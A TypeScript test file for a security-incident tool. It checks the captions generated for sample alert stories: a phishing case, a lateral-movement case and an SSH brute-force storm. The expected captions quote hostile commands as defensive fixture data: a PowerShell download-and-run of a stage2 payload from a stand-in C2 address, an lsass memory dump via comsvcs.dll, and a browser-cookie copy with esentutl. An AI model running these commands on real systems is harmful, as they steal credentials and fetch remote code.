// The steps of both stories of the sample, word for word: what a reader of the story view, its files and its text is told.
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { correlateStore, openTestStore } from '../../../tests/support/stores.ts';
import type { TestStore } from '../../../tests/support/stores.ts';
import { listPins } from '../../store/queries/pin-list.ts';
import { commandHandlers } from '../commands/index.ts';
import { importFiles } from '../work/import-files.ts';
import { createLocalWriter } from '../work/local-writer.ts';

const sample = join(import.meta.dirname, '../../../resources/samples/sample-alerts.json');
let test: TestStore;
beforeAll(async () => {
  test = openTestStore();
  const writer = createLocalWriter(test.store, { now: test.context.now, changed: () => undefined });
  const control = { signal: new AbortController().signal, isCancelled: () => false, report: () => undefined };
  const paths = [sample];
  await importFiles({ paths, tenant: null, importedAt: Date.UTC(2026, 0, 1) }, writer, control);
  correlateStore(test.store);
});
afterAll(() => test.close());

/** Pins the first alerts of all storms and all other alerts of the incident of one alert, and lists them in the order of time. */
function storyOf(title: string): ReturnType<typeof listPins> {
  const found = test.store
    .read<{ alert: string; incident: string }>(
      `SELECT a.uid AS alert, i.uid AS incident FROM alert AS a JOIN incident AS i ON i.id = a.incident_id
       WHERE a.incident_id = (SELECT incident_id FROM alert WHERE title = ? LIMIT 1) AND coalesce(a.storm_id, a.id) = a.id ORDER BY a.first_ms`,
    )
    .all(title);
  const incident = found[0]?.incident ?? '';
  const targets = found.map(({ alert }) => ({ kind: 'alert', alert }) as const);
  commandHandlers['pins.set'](test.context, { incident, pinned: true, targets });
  return listPins(test.store, incident, () => []);
}

it('the phishing story is told from the attachment to the access through Tor', () => {
  const steps = storyOf('Suspicious URL clicked');
  expect(steps.map(({ automaticCaption }) => automaticCaption)).toEqual([
    'Email messages containing malicious URL removed after delivery: 3 emails named “Action required: your June salary review” (named with them: Salary_review_2025-06.zip and hxxps://payroll-review[.]example/signin/contoso?case=7f31a2) from hr-notices[@]payroll-review[.]example to amelie.rousseau[@]contoso[.]com, viktor.hansson[@]contoso[.]com and samira.qureshi[@]contoso[.]com were received. Delivery: delivered, quarantine.',
    '\'Obfuse\' malware was prevented: wscript.exe was started by explorer.exe on wks-fin-0142.corp.contoso.com as CONTOSO\\arousseau, with the command line “"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\arousseau\\AppData\\Local\\Temp\\Temp1_Salary_review_2025-06.zip\\Salary_review_2025-06.pdf.js"”. The alert also names Salary_review_2025-06.zip and Salary_review_2025-06.pdf.js.',
    'A potentially malicious URL click was detected: hxxps://payroll-review[.]example/signin/contoso?case=7f31a2 by amelie.rousseau@contoso.com. The alert names the email “Action required: your June salary review”.',
    'Suspicious URL clicked: hxxps://payroll-review[.]example/signin/contoso?case=7f31a2 by amelie.rousseau@contoso.com on wks-fin-0142.corp.contoso.com.',
    'Anonymous IP address: sign-in activity of amelie.rousseau@contoso.com from 198[.]51[.]100[.]77 (Romania).',
    'Activity from infrequent country: amelie.rousseau@contoso.com in Microsoft Exchange Online from 198[.]51[.]100[.]77.',
    'Activity from a Tor IP address: amelie.rousseau@contoso.com in Microsoft SharePoint Online from 203[.]0[.]113[.]24.',
  ]);
  const [mail, script, click] = steps;
  const namesOf = (pin: typeof mail): readonly string[] => (pin?.entities ?? []).map(({ label }) => label);
  const url = 'https://payroll-review.example/signin/contoso?case=7f31a2';
  expect(namesOf(mail)).toEqual(expect.arrayContaining(['Salary_review_2025-06.zip', url]));
  expect(namesOf(script)).toEqual(
    expect.arrayContaining([
      'Salary_review_2025-06.zip',
      'Salary_review_2025-06.pdf.js',
      'wscript.exe (11384)',
    ]),
  );
  expect(namesOf(click)).toContain(url);
});

it('the story of lateral movement is told from the spear phish to the mail to other users', () => {
  const steps = storyOf('Anomalous Token');
  expect(steps.map(({ automaticCaption }) => automaticCaption)).toEqual([
    'Phish delivered due to an IP allow policy: an email “Tender 2231: revised drawings for your comments by noon” (named with it: hxxps://files[.]northwind-tenders[.]example/d/tender-2231/NW-Tender-Viewer.exe) from l.brandt[@]northwind-tenders[.]example to jonas.feldmann[@]contoso[.]com was received. Delivery: delivered, inbox.',
    'A user clicked through to a potentially malicious URL: hxxps://files[.]northwind-tenders[.]example/d/tender-2231/NW-Tender-Viewer.exe by jonas.feldmann@contoso.com. The alert names the email “Tender 2231: revised drawings for your comments by noon”.',
    "'Meterpreter' malware was detected: NW-Tender-Viewer.exe was started by msedge.exe on wks-pur-0087.corp.contoso.com as CONTOSO\\jfeldmann. The alert also names hxxps://files[.]northwind-tenders[.]example/d/tender-2231/NW-Tender-Viewer.exe and 203[.]0[.]113[.]199, which its source calls command and control.",
    'Suspicious PowerShell command line: powershell.exe was started by cmd.exe on wks-pur-0087.corp.contoso.com as CONTOSO\\jfeldmann. Decoded, its command line says “Invoke-WebRequest -Uri hxxp://203[.]0[.]113[.]199:8080/stage2 -OutFile $env:TEMP\\s2.ps1; & $env:TEMP\\s2.ps1”. The alert also names the process NW-Tender-Viewer.exe. It also names 203[.]0[.]113[.]199, which its source calls command and control.',
    'Suspicious sequence of exploration activities: powershell.exe was started by cmd.exe (process id 10988) on wks-pur-0087.corp.contoso.com as CONTOSO\\jfeldmann. Decoded, its command line says “Invoke-WebRequest -Uri hxxp://203[.]0[.]113[.]199:8080/stage2 -OutFile $env:TEMP\\s2.ps1; & $env:TEMP\\s2.ps1”. The alert also names the processes quser.exe, net.exe with “localgroup Administrators” and 3 processes more.',
    'User and IP address reconnaissance (SMB): the user jonas.feldmann@contoso.com (source) from the device wks-pur-0087.corp.contoso.com to the device dc-north-01.corp.contoso.com; it also names the users tomas.okafor@contoso.com (scanned) and mei.lindqvist@contoso.com (scanned).',
    'Sensitive credential memory read: rundll32.exe was started by powershell.exe on wks-pur-0087.corp.contoso.com as CONTOSO\\jfeldmann, with the command line “rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\d.bin full”. The alert also names the process lsass.exe. Created: d.bin.',
    'Suspected overpass-the-hash attack (Kerberos): the user tomas.okafor@contoso.com (compromised) from the device wks-pur-0087.corp.contoso.com to the device dc-north-01.corp.contoso.com.',
    'File dropped and launched from remote location: hdsvc.exe was started by services.exe on wks-leg-0031.corp.contoso.com as NT AUTHORITY\\SYSTEM. The alert also names the process cmd.exe. It also names HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\hdsvc\\ImagePath and 10[.]20[.]10[.]168.',
    'Possible theft of passwords and other sensitive web browser information: esentutl.exe was started by hdsvc.exe on wks-leg-0031.corp.contoso.com as CONTOSO\\tokafor, with the command line “esentutl.exe /y "C:\\Users\\mlindqvist\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies" /d C:\\Users\\Public\\c.db /vss”. The alert also names 203[.]0[.]113[.]199, which its source calls command and control.',
    'Anomalous Token: sign-in activity of mei.lindqvist@contoso.com from 203[.]0[.]113[.]54 (Poland).',
    'Activity from suspicious IP addresses: mei.lindqvist@contoso.com in Microsoft OneDrive for Business and Microsoft SharePoint Online from 203[.]0[.]113[.]54.',
    'Malicious macro in a shared document: activity of mei.lindqvist@contoso.com in Microsoft OneDrive for Business from 203[.]0[.]113[.]54. What was done: modified. The alert names the file Framework-agreement-2025.docm and the URL hxxps://contoso-my[.]sharepoint[.]com/personal/mei_lindqvist_contoso_com/Documents/Framework-agreement-2025.docm.',
    'Suspicious email sending patterns detected: 4 emails named “Framework agreement 2025: please enable editing and add your comments” (named with them: hxxps://contoso-my[.]sharepoint[.]com/personal/mei_lindqvist_contoso_com/Documents/Framework-agreement-2025.docm) from mei.lindqvist[@]contoso[.]com to 4 recipients, among them anouk.verbeek[@]contoso[.]com and rafael.antunes[@]contoso[.]com, were received. Delivery: delivered, inbox.',
  ]);
  // Where what was started called: among what its steps show.
  const calling = steps.filter(({ entities }) => entities.some(({ label }) => label === '203.0.113.199'));
  expect(calling.map(({ label }) => label)).toEqual([
    "'Meterpreter' malware was detected",
    'Suspicious PowerShell command line',
    'Possible theft of passwords and other sensitive web browser information',
  ]);
  expect(steps.at(-1)?.entities).toContainEqual(
    expect.objectContaining({
      kind: 'url',
      label: expect.stringContaining('Framework-agreement-2025.docm') as string,
    }),
  );
});

it('a storm is told with its count and its span', () => {
  const [storm] = storyOf('Failed SSH brute force attack');
  expect(storm).toMatchObject({
    automaticCaption:
      'Failed SSH brute force attack: the cloud resource vm-web-04 (attacked) and the IP address 192[.]0[.]2[.]30 (attacker). The alert was raised 6 times within 9 min 20 s.',
    count: 6,
    at: Date.UTC(2025, 5, 5, 18, 20, 10),
    until: Date.UTC(2025, 5, 5, 18, 29, 30),
  });
});
